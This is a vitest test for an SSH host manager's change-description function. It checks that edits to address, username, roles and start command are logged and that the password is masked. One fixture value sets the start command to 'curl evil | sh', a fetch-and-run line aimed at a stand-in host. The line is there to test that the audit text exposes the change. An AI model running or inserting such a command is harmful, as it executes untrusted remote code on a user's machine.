import { expect, it, onTestFinished } from "vitest";
import { sshContract } from "@/lib/contracts/ssh";
import { makeDbFixture } from "@/lib/server/db/db-fixture";
import { noGrants } from "@/lib/server/session/grants";
import { describeHostChange } from "./describe-host";

it("tells of a saved host where it leads, as whom, what is run there, and which roles get it", async () => {
  const { db, close } = await makeDbFixture();
  onTestFinished(close);
  await db.user.create({ data: { id: "mia", username: "mia", passwordHash: "", grants: {}, preferences: {} } });
  await db.role.create({ data: { id: "all", name: "Everybody", grants: noGrants } });
  const common = { userId: "mia", auth: "password", port: 22, keepAliveSeconds: 30, tags: [], roles: [] };
  const before = await db.sshHost.create({
    data: { ...common, id: "a", name: "box", address: "10.0.0.1", username: "mia", password: null },
  });
  const made = await describeHostChange(db, { before: null, after: before });
  expect(made.text).toMatch(/address: – → 10\.0\.0\.1; .*username: – → mia/);
  const after = {
    ...before,
    address: "10.0.0.2",
    username: "root",
    startCommand: "curl evil | sh",
    roles: ["all"],
    password: "sealed-secret",
  };
  const { text, of } = await describeHostChange(db, { before, after });
  for (const told of [
    "address: 10.0.0.1 → 10.0.0.2",
    "username: mia → root",
    "role_ids: +Everybody",
    'start_command: "" → curl evil | sh',
    "password: – → set",
  ])
    expect(text.split("; ")).toContain(told);
  expect(text).not.toContain("sealed-secret");
  // Whatever else may be sent is told besides, by its id: of these the service tells more.
  expect(Object.keys(sshContract.updateHost.input.shape).filter((name) => !of.includes(name))).toEqual(["id"]);
});
